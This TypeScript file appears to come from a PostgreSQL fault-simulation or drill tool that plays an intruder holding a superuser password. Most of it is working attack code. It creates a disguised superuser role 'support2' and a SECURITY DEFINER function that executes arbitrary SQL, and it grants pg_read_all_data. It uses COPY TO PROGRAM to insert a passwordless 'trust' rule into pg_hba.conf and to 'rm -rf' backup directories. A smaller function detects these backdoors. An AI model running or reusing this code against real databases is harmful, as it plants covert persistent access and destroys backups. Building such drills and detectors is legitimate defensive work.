/** What an intruder with a superuser's password leaves behind to come back by: a role, a function, a right, a line of pg_hba.conf. */
import {randomBytes} from 'node:crypto';
import {fail, type Result, succeed} from '../../base/result.ts';
import type {Connection} from '../../postgres/connect.ts';
import {rowsOf} from '../../postgres/query.ts';
import {quoteLiteral} from '../../postgres/quote.ts';
import {shellWord} from '../../postgres/shell-word.ts';
import type {Symptom} from '../fault.ts';
import {intruderAddress, type Key} from './intruder-plan.ts';

/** Named as somebody would name it who does not want to be seen. */
const rogueRole = 'support2';
const backdoorFunction = 'public.refresh_statistics(text)';

/** Makes all of them on a superuser's session; gives what can be entered by. The line of pg_hba.conf asks for no password. */
export const leaveBackdoors = async (connection: Connection): Promise<Result<readonly Key[]>> => {
  const password = randomBytes(12).toString('base64url');
  const rules = await rowsOf(connection, `select current_setting('hba_file') as file`);
  const file = shellWord(String(rules.ok ? rules.value[0]?.file : ''));
  if (!rules.ok || !file.ok) {
    return fail(rules.ok ? 'the place of pg_hba.conf cannot be written in a shell' : rules.reason.message);
  }
  const statements = [
    `create role ${rogueRole} superuser login password ${quoteLiteral(password)}`,
    `create function ${backdoorFunction.replace('(text)', '(statement text)')} returns void language plpgsql security definer
       as $body$ begin execute statement; end $body$`,
    'grant pg_read_all_data to reporting',
    atTheTop(file.value),
    'select pg_reload_conf()',
  ];
  for (const statement of statements) {
    const done = await connection.run(statement);
    if (!done.ok) {
      return fail(`the intruder cannot leave a backdoor: ${done.reason.message}`);
    }
  }
  return succeed([
    {role: rogueRole, password},
    // The rule asks for no password; where it is gone, a guess is all that is left.
    {role: 'postgres', password: 'postgres'},
  ]);
};

/** Which of them are there. */
export const lookForBackdoors = async (connection: Connection): Promise<Result<Symptom>> => {
  const rows = await rowsOf(connection, backdoorsSql, [rogueRole, backdoorFunction, intruderAddress]);
  if (!rows.ok) {
    return fail(rows.reason.message);
  }
  const found = rows.value.map(({what}) => String(what));
  return succeed(
    found.length > 0
      ? {seen: true, detail: `there is ${found.join(', ')}`}
      : {seen: false, detail: 'no backdoor is there'},
  );
};

const backdoorsSql = `
  select format('the superuser %s', rolname) as what from pg_roles where rolname = $1
  union all select format('the function %s', p) from to_regprocedure($2) p where p is not null
  union all select 'a membership of reporting in pg_read_all_data'
    from pg_auth_members where member::regrole::text = 'reporting' and roleid = 'pg_read_all_data'::regrole
  union all select format('a rule that lets %s in', address)
    from pg_hba_file_rules where address = $3 and auth_method = 'trust'`;

/** The first rule that fits counts, so it stands first. The server's own account writes it, through a program. */
const atTheTop = (file: string): string => {
  const line = shellWord(`host all all ${intruderAddress}/32 trust`);
  const program = `cat >/dev/null; { printf '%s\\n' ${line.ok ? line.value : ''}; cat ${file}; } >${file}.new && cat ${file}.new >${file} && rm ${file}.new`;
  return `copy (select '') to program ${quoteLiteral(program)}`;
};

/** Takes away what lies in those directories through the server's own account, as far as that reaches. */
export const deleteFiles = async (
  connection: Connection,
  places: readonly string[],
): Promise<Result<readonly Key[]>> => {
  const words: string[] = [];
  for (const place of places) {
    const word = shellWord(place);
    if (!word.ok) {
      return word;
    }
    words.push(`${word.value}/*`);
  }
  const program = `cat >/dev/null; rm -rf ${words.join(' ')} 2>/dev/null; true`;
  const done = await connection.run(`copy (select '') to program ${quoteLiteral(program)}`);
  return done.ok ? succeed([]) : fail(`the intruder cannot delete the backups: ${done.reason.message}`);
};
